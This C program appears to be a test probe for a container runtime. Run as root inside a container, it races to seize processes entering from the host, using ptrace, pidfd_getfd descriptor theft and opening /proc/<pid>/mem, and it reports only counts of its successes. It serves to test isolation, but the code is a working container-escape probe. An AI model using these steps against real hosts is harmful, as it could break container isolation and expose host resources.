/*
 * Runs as root in a container while commands are executed there through /bin/busybox. It tries to
 * take over each process that enters the container before that process has executed a program of
 * the container, while it still belongs to the host. At the end of its input, it prints the number
 * of processes it saw, and the numbers of those it could seize, take descriptors from, or open the
 * memory of.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* How many pids after the newest are tried, and which descriptors. */
enum { AHEAD = 8, FIRST_FD = 3, LAST_FD = 64, PATH_SIZE = 64 };

struct catch
{
	long seen;
	long seized;
	long descriptors;
	long memory;
};

enum where { GONE, INSIDE, ENTERING };

/* A process that has executed a program of the container may be seized by the container. */
static enum where look(pid_t pid)
{
	static const char program[] = "/busybox";
	char path[PATH_SIZE];
	char link[4096];
	ssize_t length;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	length = readlink(path, link, sizeof(link) - 1);
	if (length < 0)
		return errno == ENOENT || errno == ESRCH ? GONE : ENTERING;
	link[length] = '\0';
	return length >= (ssize_t)sizeof(program) &&
	                       strcmp(link + length - (sizeof(program) - 1), program) == 0
	               ? INSIDE
	               : ENTERING;
}

static bool take_descriptors(pid_t pid, struct catch *catch)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	long taken = 0;
	int fd;

	if (pidfd < 0)
		return false;
	for (fd = FIRST_FD; fd <= LAST_FD; fd++) {
		int ours = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (ours < 0 && errno == EPERM)
			break;
		if (ours >= 0) {
			taken++;
			close(ours);
		}
	}
	close(pidfd);
	catch->descriptors += taken;
	return taken > 0;
}

static bool open_memory(pid_t pid, struct catch *catch)
{
	char path[PATH_SIZE];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR);
	if (fd < 0)
		return false;
	close(fd);
	if (look(pid) != ENTERING)
		return false; /* it may have been opened just after the execution */
	catch->memory++;
	return true;
}

static bool seize(pid_t pid, struct catch *catch)
{
	bool entering;
	int status;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return false;
	entering = ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
	           waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) &&
	           look(pid) == ENTERING;
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	catch->seized += entering;
	return entering;
}

static void attack(pid_t pid, struct catch *catch)
{
	bool caught = false;

	catch->seen++;
	while (!caught && look(pid) == ENTERING)
		caught = take_descriptors(pid, catch) | open_memory(pid, catch) | seize(pid, catch);
}

static bool is_told_to_end(void)
{
	struct pollfd in = { .fd = STDIN_FILENO, .events = POLLIN };

	return poll(&in, 1, 0) != 0;
}

int main(void)
{
	struct catch catch = { 0 };
	pid_t newest = getpid();

	printf("ready\n");
	fflush(stdout);
	while (!is_told_to_end()) {
		pid_t pid;

		for (pid = newest + 1; pid <= newest + AHEAD; pid++) {
			if (kill(pid, 0) < 0 && errno == ESRCH)
				continue;
			newest = pid;
			attack(pid, &catch);
			break;
		}
	}
	printf("seen %ld seized %ld descriptors %ld memory %ld\n", catch.seen, catch.seized,
	       catch.descriptors, catch.memory);
	return EXIT_SUCCESS;
}
